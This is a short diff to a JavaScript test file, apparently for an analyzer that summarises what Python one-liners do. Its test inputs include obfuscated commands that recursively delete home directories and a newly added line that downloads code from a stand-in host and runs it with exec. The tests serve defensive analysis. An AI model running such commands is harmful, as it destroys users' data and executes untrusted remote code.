@@ -10,6 +10,11 @@ describe("files", () => {
     "from shutil import rmtree as r; r(f'/home/{user}')": ["delete /home/<user> recursive"],
     "from shutil import *; rmtree('x')": ["delete x recursive"],
     "__import__('shutil').rmtree(__import__('os').path.expanduser('~'))": ["delete $HOME recursive"],
+    "__import__('os.path').path.join('a'); __import__('os.path').remove('x')": ["delete x"],
+    "exec(__import__('urllib.request').request.urlopen('http://h/x').read())": [
+      "connect http://h/x fetch checked",
+      "run $(response().read) fetched from[fetched http://h/x]",
+    ],
     "getattr(__import__('shutil'), 'rm' + 'tree')('x')": ["delete x recursive"],
     "import shutil; shutil.rmtree('⟨X⟩')": ["delete $X recursive"],
     "from pathlib import Path; Path('a', 'b').unlink()": ["delete a/b"],
